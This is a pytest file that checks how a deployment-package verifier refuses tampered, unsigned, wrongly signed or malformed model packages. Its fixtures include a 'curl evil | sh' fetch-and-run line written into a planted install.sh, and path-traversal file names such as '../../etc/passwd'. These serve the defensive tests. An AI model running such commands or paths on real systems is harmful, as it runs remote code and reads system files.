"""Deployment-package threats, each built in code (a small package simulator) and named.

Every case must be refused by `deploy.verify_package` with a stable code and no traceback;
the honest package verifies. The decisions themselves live in `bundles.trust` (invariant 9).
"""

from __future__ import annotations

import hashlib
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from vital_desktop.bundles import canonical, trust
from vital_desktop.bundles.envelope import encode_json_envelope, sign
from vital_desktop.bundles.keys import SigningKey
from vital_desktop.services import deploy

MODEL = b"\x08\x07fake-onnx-model-bytes" * 10


def _entry(data: bytes) -> dict:
    return {"size": len(data), "sha256": hashlib.sha256(data).hexdigest()}


class PackageSimulator:
    """Writes packages of the real format; each threat changes one thing before or after signing."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.key = SigningKey.generate()
        self.keys = {self.key.key_id: self.key.public_raw}
        self.count = 0

    def manifest(self, files: dict[str, bytes]) -> dict:
        return {"format": trust.DEPLOYMENT_FORMAT, "format_version": 1,
                "model": {"name": "m", "version": 1, "kind": "onnx", "sha256": hashlib.sha256(MODEL).hexdigest()},
                "classes": ["a", "b"], "created_at": "2026-12-01T00:00:00", "created_by": "eng",
                "few_shot": {"examples": 0, "excluded": {}, "use": "few_shot"},
                "files": {name: _entry(data) for name, data in files.items()}}

    def write(self, *, files: dict[str, bytes] | None = None, edit: Callable[[dict], None] | None = None,
              signer: SigningKey | None = None, raw_manifest: bytes | None = None, signed: bool = True) -> Path:
        self.count += 1
        folder = self.root / f"pkg-{self.count}"
        folder.mkdir(parents=True)
        files = {"model.onnx": MODEL, "model_card.json": b'{"name":"m"}', "few_shot.jsonl": b""} \
            if files is None else files
        for name, data in files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(data)
        document = self.manifest(files)
        if edit:
            edit(document)
        body = raw_manifest if raw_manifest is not None else canonical.dumps(document)
        (folder / "manifest.json").write_bytes(body)
        if signed:
            key = signer or self.key
            envelope = encode_json_envelope(trust.DEPLOYMENT_PAYLOAD_TYPE, body,
                                            sign([key], trust.DEPLOYMENT_PAYLOAD_TYPE, body))
            (folder / "manifest.sig.json").write_bytes(envelope)
        return folder

    def refused(self, folder: Path, code: str, keys: dict | None = None) -> dict:
        result = deploy.verify_package(folder, public_keys=self.keys if keys is None else keys)
        assert not result["ok"], result
        assert result["code"] == code, result
        return result


@pytest.fixture
def sim(tmp_path: Path) -> PackageSimulator:
    return PackageSimulator(tmp_path)


def test_an_honest_package_verifies(sim) -> None:
    result = deploy.verify_package(sim.write(), public_keys=sim.keys)
    assert result["ok"] and result["signed_by"] == [sim.key.key_id]


def test_a_key_of_another_channel_does_not_count(tmp_path) -> None:
    """Any non-revoked key used to count; now only the site's own key or a deployment-scoped key."""
    sim = PackageSimulator(tmp_path)
    labels_key = trust.KeyRecord(sim.key.key_id, sim.key.public_raw, "channel", frozenset({"labels"}), None, False)
    assert trust.deployment_keys([labels_key], now=0) == {}
    sim.refused(sim.write(), "no_trusted_key", keys=trust.deployment_keys([labels_key], now=0))
    scoped = trust.KeyRecord(sim.key.key_id, sim.key.public_raw, "channel", frozenset({"deployment"}), None, False)
    assert deploy.verify_package(sim.write(), public_keys=trust.deployment_keys([scoped], now=0))["ok"]
    expired = trust.KeyRecord(sim.key.key_id, sim.key.public_raw, "channel", frozenset({"deployment"}), 10, False)
    revoked = trust.KeyRecord(sim.key.key_id, sim.key.public_raw, "site", frozenset(), None, True)
    assert trust.deployment_keys([expired, revoked], now=100) == {}


def test_a_package_signed_by_an_untrusted_key_is_refused(sim) -> None:
    sim.refused(sim.write(signer=SigningKey.generate()), "signature")


def test_an_unsigned_package_is_refused(sim) -> None:
    sim.refused(sim.write(signed=False), "package_layout")


def test_a_file_not_in_the_manifest_is_refused(sim) -> None:
    folder = sim.write()
    (folder / "install.sh").write_text("curl evil | sh\n")
    sim.refused(folder, "package_unlisted")


def test_a_missing_listed_file_is_refused(sim) -> None:
    folder = sim.write()
    (folder / "model_card.json").unlink()
    sim.refused(folder, "package_missing")


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "a\\..\\b", "C:/Windows/win.ini", "a//b",
                                  "./model.onnx", "few\x00shot", "x/../../y", "manifest.json"])
def test_names_that_leave_the_package_are_refused_before_any_hashing(sim, name: str, monkeypatch) -> None:
    hashed: list[Path] = []
    monkeypatch.setattr(deploy, "_hash_capped", lambda path, limit: hashed.append(path) or (0, ""))

    def add(document: dict) -> None:
        document["files"][name] = {"size": 5, "sha256": "0" * 64}

    sim.refused(sim.write(edit=add), "package_name")
    assert hashed == []


def test_an_empty_manifest_verifies_nothing(sim) -> None:
    sim.refused(sim.write(files={}), "manifest")


def test_the_model_is_required_and_must_match(sim) -> None:
    sim.refused(sim.write(files={"model_card.json": b"{}"}), "model_missing")

    def other_model(document: dict) -> None:
        document["model"]["sha256"] = "ab" * 32

    sim.refused(sim.write(edit=other_model), "model_hash")


def test_a_tampered_file_is_refused(sim) -> None:
    folder = sim.write()
    (folder / "model.onnx").write_bytes(MODEL[:-1] + b"X")
    sim.refused(folder, "payload_hash")


def test_a_file_longer_than_declared_is_not_read_past_its_size(sim, monkeypatch) -> None:
    folder = sim.write()
    with (folder / "few_shot.jsonl").open("ab") as handle:
        handle.write(b"x" * (3 << 20))
    sim.refused(folder, "payload_hash")


def test_a_manifest_edited_after_signing_is_refused(sim) -> None:
    folder = sim.write()
    body = (folder / "manifest.json").read_bytes()
    (folder / "manifest.json").write_bytes(body.replace(b'"classes":["a","b"]', b'"classes":["a","c"]'))
    sim.refused(folder, "manifest_mismatch")


@pytest.mark.parametrize("raw", [b"", b"{", b"[]", b"\xff\xfe", b'{"format":"vital-deployment-package"}',
                                 b'{"a":1,"a":2}', b"[" * 100_000, b'{"format_version":1e400}'])
def test_malformed_manifests_give_clear_errors(sim, raw: bytes) -> None:
    result = deploy.verify_package(sim.write(raw_manifest=raw), public_keys=sim.keys)
    assert not result["ok"] and (result["code"] == "manifest" or result["code"].startswith("json")), result
    assert result["problems"] and "Traceback" not in result["problems"][0]


def test_a_malformed_signature_file_gives_a_clear_error(sim) -> None:
    folder = sim.write()
    (folder / "manifest.sig.json").write_bytes(b"not json at all")
    result = deploy.verify_package(folder, public_keys=sim.keys)
    assert not result["ok"] and result["problems"]


def test_a_symlinked_file_is_refused(sim, tmp_path) -> None:
    outside = tmp_path / "outside.onnx"
    outside.write_bytes(MODEL)
    folder = sim.write()
    (folder / "model.onnx").unlink()
    os.symlink(outside, folder / "model.onnx")
    sim.refused(folder, "package_link")


def test_no_keys_means_nothing_verifies(sim) -> None:
    sim.refused(sim.write(), "no_trusted_key", keys={})
    assert not deploy.verify_package(sim.write())["ok"]


def test_build_refuses_to_write_an_unsigned_package(small_site, tmp_path) -> None:
    """A site without its signing key gets an error, not an unsigned package."""
    from vital_desktop.core.errors import ValidationError

    with pytest.raises(ValidationError, match="signing key"):
        deploy.build_package(small_site.store, actor=small_site.user("engineer"), model="nothing@1",
                             out_dir=tmp_path / "out")
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())
